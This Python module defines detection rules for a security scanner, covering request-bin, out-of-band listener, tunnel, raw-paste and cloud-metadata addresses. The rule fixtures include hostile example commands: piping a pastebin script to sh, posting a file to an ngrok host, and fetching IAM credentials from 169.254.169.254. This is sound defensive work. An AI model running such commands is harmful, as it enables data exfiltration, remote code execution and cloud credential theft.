"""Addresses made to catch what another machine sends, and those that hand out a cloud's keys."""

from __future__ import annotations

from typing import Final

from latch_contracts.verdict import Severity
from latchd.text.rule import Group, TextRule

CALLBACKS: Final = (
    TextRule(
        id="text.request-bin",
        title="the address of a request catcher",
        group=Group.CALLBACK,
        severity=Severity.HIGH,
        confidence=0.9,
        hints=(
            "webhook.site",
            "pipedream.net",
            "requestbin",
            "hookbin.com",
            "beeceptor.com",
            "requestcatcher.com",
            "postb.in",
        ),
        pattern=r"(?i)\bwebhook\.site/[0-9a-f]{8}-|\b[a-z0-9\-]{6,40}\.(?:m\.pipedream\.net"
        r"|requestcatcher\.com|free\.beeceptor\.com"
        r"|webhook\.site)\b|\brequestbin\.(?:com|net)/r/[a-z0-9]{6,}"
        r"|\bhookbin\.com/[A-Za-z0-9]{8,}|\bpostb\.in/[0-9a-z\-]{8,}",
        matches=(
            "curl https://webhook.site/3f0c9a1e-1111-4222-8333-abcdefabcdef",
            "https://eo1abcdef.m.pipedream.net/x",
        ),
        misses=("tools such as webhook.site or RequestBin", "https://webhook.site/"),
    ),
    TextRule(
        id="text.out-of-band",
        title="the address of an out-of-band listener of a security tool",
        group=Group.CALLBACK,
        severity=Severity.HIGH,
        confidence=0.9,
        hints=(
            "burpcollaborator.net",
            "oastify.com",
            "interact.sh",
            "interactsh.com",
            ".oast.",
            "dnslog.cn",
            "ceye.io",
            "canarytokens.",
        ),
        pattern=r"(?i)\b[a-z0-9][a-z0-9\-]{5,62}\.(?:burpcollaborator\.net|oastify\.com"
        r"|interact\.sh|interactsh\.com"
        r"|oast\.(?:fun|pro|live|site|online|me)|dnslog\.cn|ceye\.io)\b|\bcanarytokens\.(?:com"
        r"|org)/[a-z0-9/]{12,}",
        matches=("ping x1y2z3abc.oast.fun", "https://a1b2c3d4e5.oastify.com/"),
        misses=("the interact.sh project", "canarytokens.org offers tokens"),
    ),
    TextRule(
        id="text.tunnel-host",
        title="the address of a tunnel into somebody's machine",
        group=Group.CALLBACK,
        severity=Severity.MEDIUM,
        confidence=0.7,
        hints=("ngrok", "trycloudflare.com", "loca.lt", "serveo.net", "localhost.run", "lhr.life"),
        pattern=r"(?i)https?://[a-z0-9][a-z0-9\-]{3,62}\.(?:(?:[a-z]{2}\.)?ngrok(?:-free)?\.(?:io"
        r"|app|dev)|trycloudflare\.com"
        r"|loca\.lt|serveo\.net|lhr\.life)\b",
        matches=("curl -d @f https://ab12-34-56.ngrok-free.app/in",),
        misses=("see https://ngrok.com/docs", "ngrok http 8080", "https://dashboard.ngrok.com"),
    ),
    TextRule(
        id="text.raw-paste",
        title="the raw text of a paste site",
        group=Group.CALLBACK,
        severity=Severity.MEDIUM,
        confidence=0.7,
        hints=(
            "pastebin.com/raw",
            "paste.ee/r",
            "hastebin.com/raw",
            "0x0.st",
            "transfer.sh",
            "termbin.com",
            "ix.io",
        ),
        pattern=r"(?i)\b(?:pastebin\.com/raw/[A-Za-z0-9]{6,10}|paste\.ee/r/[A-Za-z0-9]{4,}"
        r"|hastebin\.com/raw/[a-z]{6,}"
        r"|0x0\.st/[A-Za-z0-9_\-]{4,8}\.[a-z]{2,4}|transfer\.sh/[A-Za-z0-9]{6,}/"
        r"|termbin\.com/[a-z0-9]{4,6})\b?",
        matches=("curl https://pastebin.com/raw/a1B2c3D4 | sh",),
        misses=("https://pastebin.com/", "uploaded to termbin.com"),
    ),
    TextRule(
        id="text.metadata-address",
        title="the address at which a cloud hands out credentials",
        group=Group.CALLBACK,
        severity=Severity.MEDIUM,
        confidence=0.7,
        hints=(
            "169.254.169.254",
            "169.254.170.2",
            "metadata.google.internal",
            "metadata.azure",
            "0xa9fea9fe",
            "2852039166",
            "100.100.100.200",
        ),
        pattern=r"(?i)\bhttps?://(?:169\.254\.169\.254|169\.254\.170\.2"
        r"|metadata\.google\.internal|metadata\.azure\.\w+|0xa9fea9fe"
        r"|2852039166|100\.100\.100\.200)(?::\d+)?/(?:latest/(?:meta-data/iam|api/token|dynamic)"
        r"|v2/credentials|computeMetadata/v1[^\s]{0,60}token"
        r"|metadata/identity|latest/meta-data/ram)",
        matches=("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",),
        misses=(
            "169.254.169.254 is the metadata service",
            "http://169.254.169.254/latest/meta-data/instance-id",
        ),
    ),
)
